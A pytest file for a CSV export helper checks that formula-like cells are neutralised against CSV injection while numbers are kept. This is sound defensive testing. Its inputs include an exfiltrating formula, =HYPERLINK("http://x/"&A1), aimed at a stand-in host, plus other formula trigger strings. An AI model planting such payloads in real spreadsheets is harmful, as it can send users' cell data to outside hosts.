"""Every CSV the workbook writes neutralises formula-like text (OWASP CSV injection) but keeps numbers."""

import io

import pandas as pd
import pytest

from dscp_metrics.export.safe_csv import neutralise, write_frame


@pytest.mark.parametrize(
    "cell, written",
    [
        ('=HYPERLINK("http://x/"&A1)', '\'=HYPERLINK("http://x/"&A1)'),
        ("+SUM(A1:A2)", "'+SUM(A1:A2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("1e-3", "1e-3"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (float("nan"), ""),
        (7, "7"),
        (-7, "-7"),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def test_written_csv_has_no_formula_cell():
    frame = pd.DataFrame({"value": ["=1+1", "-3", "ok"], "n": [1, -2, 3]})
    out = io.StringIO()
    write_frame(frame, out)
    lines = out.getvalue().splitlines()
    assert lines == ["value,n", "'=1+1,1", "-3,-2", "ok,3"]
